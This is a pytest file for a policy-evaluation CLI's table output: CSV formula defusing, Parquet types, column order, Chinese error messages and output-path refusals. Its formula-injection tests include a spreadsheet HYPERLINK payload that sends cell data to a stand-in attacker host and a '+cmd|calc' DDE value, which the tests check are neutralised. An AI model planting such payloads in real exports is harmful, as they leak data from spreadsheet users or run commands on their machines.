"""How ``policyengine evaluate`` writes result tables (results.md "Tables in and out",
"Language"): CSV safe to open in a spreadsheet and in one dialect whatever the input,
Parquet columns typed by the packs, columns in the packs' order, outputs that are not
regular files, messages in Chinese by default, a summary for every table, and no output
inside an input folder."""

# House style: `assert expected == actual`.

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from policyengine.cli import main
from policyengine.sinks import CsvSink, make_sink

pa = pytest.importorskip("pyarrow")
pq = pytest.importorskip("pyarrow.parquet")
openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).resolve().parent.parent
COMMUNITY = ROOT / "examples" / "wuma-community.toml"
STREET = ROOT / "examples" / "wuma-street.toml"
WUMA_PACK = ROOT / "policy_packs" / "wuma-star-rating" / "policyengine_pack_wuma_star_rating"
WUMA = ("--pack", "wuma-star-rating", "--as-of", "2014-12-31")
JURISDICTION = ["浙江省", "温州市", "鹿城区", "五马街道"]
HEADER = ["community.id", "community.name", "community.jurisdiction", "happiness.objective_score",
          "happiness.survey_score", "happiness.vetoes", "happiness.previous_stars"]
ROWS = [
    ["five", '墨池, "东"', json.dumps(JURISDICTION, ensure_ascii=False), "650", "250", "[]", "4"],
    ["veto", "a\nb", json.dumps(JURISDICTION, ensure_ascii=False), "700", "300",
     '["leadership"]', "0"],
    ["=1+1", "", json.dumps(JURISDICTION, ensure_ascii=False), "", "250", "[]", ""],
]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), stdin=io.StringIO(""), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    return path


def write_jsonl(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    """The same communities as documents, one a line (cells read as the table reads them)."""
    lines = []
    for row in rows:
        doc: dict[str, dict[str, object]] = {}
        for name, value in zip(header, row, strict=True):
            if value == "":
                continue
            table, key = name.split(".")
            is_text = name in ("community.id", "community.name")
            doc.setdefault(table, {})[key] = value if is_text else json.loads(value)
        lines.append(json.dumps(doc, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


# ------------------------------------------------------------ 1. formulas in CSV cells


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_csv_text_cells_that_start_a_formula_are_defused(tmp_path: Path, kind: str) -> None:
    """An id written ``=HYPERLINK(…)`` (or ``+…``, ``-…``, ``@…``) is written with a ``'``
    before it, whichever input path made the row: Excel shows it as text."""
    ids = [HYPERLINK, "+cmd|calc", "-2+3", "@SUM(A1)", "safe"]
    rows = [[i, "[]"] for i in ids]
    header = ["community.id", "happiness.vetoes"]
    facts = (write_csv if kind == "csv" else write_jsonl)(tmp_path / f"in.{kind}", header, rows)
    out = tmp_path / "o.csv"
    code, _, _ = run("evaluate", str(facts), *WUMA, "--output", str(out))
    assert 1 == code
    assert [f"'{i}" for i in ids[:-1]] + ["safe"] == [r["subject_id"] for r in cells(out)]


@pytest.mark.parametrize("arrow", [True, False])
def test_a_negative_number_stays_a_number_and_negative_text_is_defused(arrow: bool) -> None:
    """Numbers are not text: ``-5`` in a number column is written as it is; the text
    ``-5`` (an id) gets its ``'``; a JSON list is not touched. Both CSV writers agree."""
    row = {"subject_id": "-5", "pack": "p", "pack_version": "1", "digest": "d",
           "as_of": "2014-12-31", "verdict": "pass", "outputs.n": -5, "outputs.x": -0.5,
           "outputs.list": '["=a"]', "outputs.name": "@me", "outputs.tab": "\tx"}
    if arrow:
        raw = io.BytesIO()
        sink = make_sink("csv", raw)
        sink.write_rows([row])  # type: ignore[attr-defined]
        sink.close()
        text = raw.getvalue().decode("utf-8")
    else:
        fh = io.StringIO()
        plain = CsvSink(fh)
        plain.write_rows([row])
        plain.close()
        text = fh.getvalue()
    assert ("subject_id,pack,pack_version,digest,as_of,verdict,outputs.n,outputs.x,"
            "outputs.list,outputs.name,outputs.tab\n"
            "'-5,p,1,d,2014-12-31,pass,-5,-0.5,\"[\"\"=a\"\"]\",'@me,'\tx\n") == text


def test_xlsx_keeps_a_formula_as_text(tmp_path: Path) -> None:
    """The workbook writes ids as text cells: ``=HYPERLINK(…)`` is not a formula there
    (confirms what already held)."""
    facts = write_csv(tmp_path / "in.csv", ["community.id", "happiness.vetoes"],
                      [[HYPERLINK, "[]"], ["+cmd|calc", "[]"]])
    out = tmp_path / "o.xlsx"
    code, _, _ = run("evaluate", str(facts), *WUMA, "--output", str(out))
    assert 1 == code
    book = openpyxl.load_workbook(out)
    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if c.value in (HYPERLINK, "+cmd|calc")]
    assert found
    assert {"s"} == {c.data_type for c in found}


# ------------------------------------------------------------ 2. Parquet column types


def parquet_schema(tmp_path: Path, facts: Path, name: str, *argv: str) -> object:
    out = tmp_path / f"{name}.parquet"
    code, _, err = run("evaluate", str(facts), *(argv or WUMA), "--output", str(out))
    assert code in (0, 1), err
    return pq.read_schema(out)


def test_parquet_types_are_the_packs_whatever_the_rows(tmp_path: Path) -> None:
    """Two id-only rows (every output null) and full rows give one schema: the outputs in
    the types the pack fixes, so that result files append into one dataset."""
    empty = write_csv(tmp_path / "ids.csv", ["community.id"], [["a"], ["b"]])
    full = write_csv(tmp_path / "full.csv", HEADER, ROWS)
    docs = write_jsonl(tmp_path / "full.jsonl", HEADER, ROWS)  # the row path
    schemas = [parquet_schema(tmp_path, f, f.name) for f in (empty, full, docs)]
    assert schemas[0] == schemas[1] == schemas[2]
    types = {f.name: str(f.type) for f in schemas[0]}  # type: ignore[attr-defined]
    assert {"outputs.stars": "int64", "outputs.reward_yuan": "int64",
            "outputs.reward_payers": "string", "outputs.total_score": "double",
            "outputs.eligible": "bool", "outputs.evaluated_by": "string",
            "verdict": "string", "rules.scope": "string"} == {
        k: types[k] for k in ("outputs.stars", "outputs.reward_yuan", "outputs.reward_payers",
                              "outputs.total_score", "outputs.eligible",
                              "outputs.evaluated_by", "verdict", "rules.scope")}
    tables = [pq.read_table(tmp_path / f"{f.name}.parquet") for f in (empty, full)]
    assert 5 == pa.concat_tables(tables).num_rows


def test_the_programme_year_is_a_number_on_every_date(tmp_path: Path) -> None:
    """Chifeng's ``program_year`` is int64 inside the programme and outside it (null)."""
    empty = write_csv(tmp_path / "ids.csv", ["community.id"], [["a"]])
    inside, outside = (
        parquet_schema(tmp_path, empty, date, "--pack", "chifeng-annual-targets", "--as-of", date)
        for date in ("2018-06-30", "2010-01-01")
    )
    assert inside == outside
    assert pa.int64() == inside.field("outputs.program_year").type  # type: ignore[attr-defined]


# ------------------------------------------------------------ 3. the order of the columns


def header(path: Path) -> list[str]:
    return next(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_output_columns_come_in_the_packs_order_whatever_the_input(tmp_path: Path) -> None:
    """A jurisdiction first (whose own outputs come first in its row) and a community give
    the pack's outputs in one order: the community's outputs, then the jurisdiction's."""
    mine, theirs = tmp_path / "c.csv", tmp_path / "s.csv"
    for facts, out in ((COMMUNITY, mine), (STREET, theirs)):
        code, _, err = run("evaluate", str(facts), *WUMA, "--output", str(out))
        assert code in (0, 1), err
    community = [c for c in header(mine) if c.startswith("outputs.")]
    street = [c for c in header(theirs) if c.startswith("outputs.")]
    assert community == street[: len(community)]
    assert "outputs.phase" == community[-1]


# ------------------------------------------------------------ 4. one CSV dialect


def test_csv_is_the_same_bytes_from_a_table_and_from_documents(tmp_path: Path) -> None:
    """The same communities as a CSV table (columns), as JSON Lines and as a folder of
    documents (rows) give byte-equal CSV, commas, quotes and line breaks included."""
    table = write_csv(tmp_path / "in.csv", HEADER, ROWS)
    lines = write_jsonl(tmp_path / "in.jsonl", HEADER, ROWS)
    folder = tmp_path / "docs"
    folder.mkdir()
    for i, line in enumerate(lines.read_text(encoding="utf-8").splitlines()):
        (folder / f"{i}.json").write_text(line, encoding="utf-8")
    written = []
    for facts in (table, lines, folder):
        out = tmp_path / f"{facts.name}.out.csv"
        code, _, err = run("evaluate", str(facts), *WUMA, "--output", str(out))
        assert 1 == code, err
        written.append(out.read_bytes())
    assert written[0] == written[1] == written[2]
    assert written[0].startswith(b"subject_id,pack,")


# ------------------------------------------------------------ 5. outputs that are not files


def shell(*argv: str, stdout: int) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "policyengine", *argv],
        stdout=stdout, stderr=subprocess.PIPE, text=True, timeout=120, check=False,
    )


def test_output_dev_stdout_on_a_pipe_is_refused_in_words(tmp_path: Path) -> None:
    """``--output /dev/stdout`` on a pipe names no temporary file: it is refused as what it
    is (a pipe is not a regular file), in Chinese, before any work."""
    done = shell("evaluate", str(COMMUNITY), *WUMA, "--format", "csv", "--output",
                 "/dev/stdout", stdout=subprocess.PIPE)
    assert (2, "") == (done.returncode, done.stdout)
    assert ("policyengine: --output /dev/stdout：不是普通文件（而是设备、管道或套接字）；"
            "结果只写入普通文件\n") == done.stderr


def test_standard_output_to_dev_null_never_says_invalid_argument(tmp_path: Path) -> None:
    """Standard output sent to /dev/null (which seeks but cannot be truncated): a header-only
    table says it holds no community; a table with rows is written and exits by verdict."""
    fmt = "csv"
    empty = write_csv(tmp_path / "hdr.csv", ["community.id"], [])
    done = shell("evaluate", str(empty), *WUMA, "--format", fmt, stdout=subprocess.DEVNULL)
    assert (2, f"policyengine: {empty}：表中没有社区（表头下没有任何一行）\n") == (
        done.returncode, done.stderr)
    rows = write_csv(tmp_path / "rows.csv", ["community.id"], [["a"], ["b"]])
    done = shell("evaluate", str(rows), *WUMA, "--format", fmt, stdout=subprocess.DEVNULL)
    assert 1 == done.returncode
    assert "Invalid argument" not in done.stderr


# ------------------------------------------------------------ 6. messages in Chinese


@pytest.mark.parametrize(
    ("argv", "zh", "en"),
    [
        (["--format", "parquet"],
         "policyengine: --format parquet 写出的是文件：请用 --output FILE.parquet 给出要写入的文件\n",
         "policyengine: --format parquet writes a file: give --output FILE.parquet\n"),
        (["--format", "xlsx"],
         "policyengine: --format xlsx 写出的是文件：请用 --output FILE.xlsx 给出要写入的文件\n",
         "policyengine: --format xlsx writes a file: give --output FILE.xlsx\n"),
        (["--format", "bogus"],
         "policyengine: 没有名为 'bogus' 的输出格式；可用的格式：csv, html, json, jsonl, markdown, "
         "parquet, table, xlsx\n",
         "policyengine: unknown format 'bogus'; available: csv, html, json, jsonl, markdown, "
         "parquet, table, xlsx\n"),
        (["--as-of", "2014-13-01"],
         "policyengine: --as-of '2014-13-01' 不是日期，请写作 YYYY-MM-DD（如 2014-12-31）\n",
         "policyengine: --as-of '2014-13-01' is not a date (YYYY-MM-DD)\n"),
        (["--as-of", "20141231"],
         "policyengine: --as-of '20141231' 不是日期，请写作 YYYY-MM-DD（如 2014-12-31）\n",
         "policyengine: --as-of '20141231' is not a date (YYYY-MM-DD)\n"),
        (["--as-of", "nope=2014-12-31"],
         "policyengine: --as-of nope=…：'nope' 不是本次评估的政策包\n",
         "policyengine: --as-of nope=…: 'nope' is not one of the packs evaluated\n"),
    ],
)
def test_command_line_errors_are_said_in_chinese_by_default(
    argv: list[str], zh: str, en: str
) -> None:
    base = ["evaluate", str(COMMUNITY), "--pack", "wuma-star-rating", *argv]
    assert (2, "", zh) == run(*base)
    assert (2, "", en) == run(*base, "--lang", "en")


def test_the_fallback_note_says_why_in_chinese(tmp_path: Path) -> None:
    """A pack with hooks runs row by row: the note says why in the run's language."""
    pack = tmp_path / "hooked"
    shutil.copytree(WUMA_PACK, pack, ignore=shutil.ignore_patterns("__pycache__", "cases"))
    toml = pack / "pack.toml"
    toml.write_text(toml.read_text("utf-8").replace("[pack]\n", '[pack]\nhooks = "hooks.py"\n', 1),
                    encoding="utf-8")
    (pack / "hooks.py").write_text(
        "from policyengine import hookimpl\n\n\n"
        "@hookimpl\ndef pack_derive_facts(context):\n    return None\n", encoding="utf-8")
    facts = write_csv(tmp_path / "in.csv", ["community.id"], [["a"], ["b"]])
    argv = ["evaluate", str(facts), "--pack", str(pack), "--as-of", "2014-12-31",
            "--output", str(tmp_path / "o.csv")]
    _, _, err = run(*argv)
    assert ("提示：wuma-star-rating 不能按列计算，逐个社区计算："
            "wuma-star-rating 含有 Python 钩子（hooks.py）") == err.splitlines()[0]
    _, _, err = run(*argv, "--lang", "en")
    assert err.splitlines()[0].endswith(": wuma-star-rating has Python hooks (hooks.py)")


# ------------------------------------------------------------ 7. the summary


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_a_table_of_one_row_is_summed_up_as_many_are(tmp_path: Path, kind: str) -> None:
    """docs/how-to/evaluate-a-table.md: the summary counts each verdict for each pack."""
    rows = [["one", "[]"]]
    header = ["community.id", "happiness.vetoes"]
    facts = (write_csv if kind == "csv" else write_jsonl)(tmp_path / f"in.{kind}", header, rows)
    code, _, err = run("evaluate", str(facts), *WUMA, "--format", "jsonl")
    assert 1 == code
    assert "wuma-star-rating：共 1 个，通过 0，未通过 0，数据不全 1，不适用 0\n" == err
    # one document alone is still its result, with no summary
    code, out, err = run("evaluate", str(COMMUNITY), *WUMA, "--format", "json")
    assert (0, "") == (code, err)
    assert "wm-001" == json.loads(out)["subject"]["id"]


# ------------------------------------------------------------ 8. outputs in an input folder


@pytest.mark.parametrize("name", ["res.csv", "res.parquet", "res.jsonl", "res.xlsx", "res.html",
                                  "res.md", "res.txt"])
def test_an_output_in_an_input_folder_is_refused_for_every_format(
    tmp_path: Path, name: str
) -> None:
    """docs/security.md: an output in an input folder is refused, whatever its format."""
    folder = tmp_path / "fold"
    folder.mkdir()
    shutil.copy(COMMUNITY, folder / "c.toml")
    out = folder / name
    code, stdout, err = run("evaluate", str(folder), *WUMA, "--output", str(out))
    assert (2, "", f"policyengine: --output {out}：也是输入文件，请把结果写到别处\n") == (
        code, stdout, err)
    assert ["c.toml"] == sorted(p.name for p in folder.iterdir())
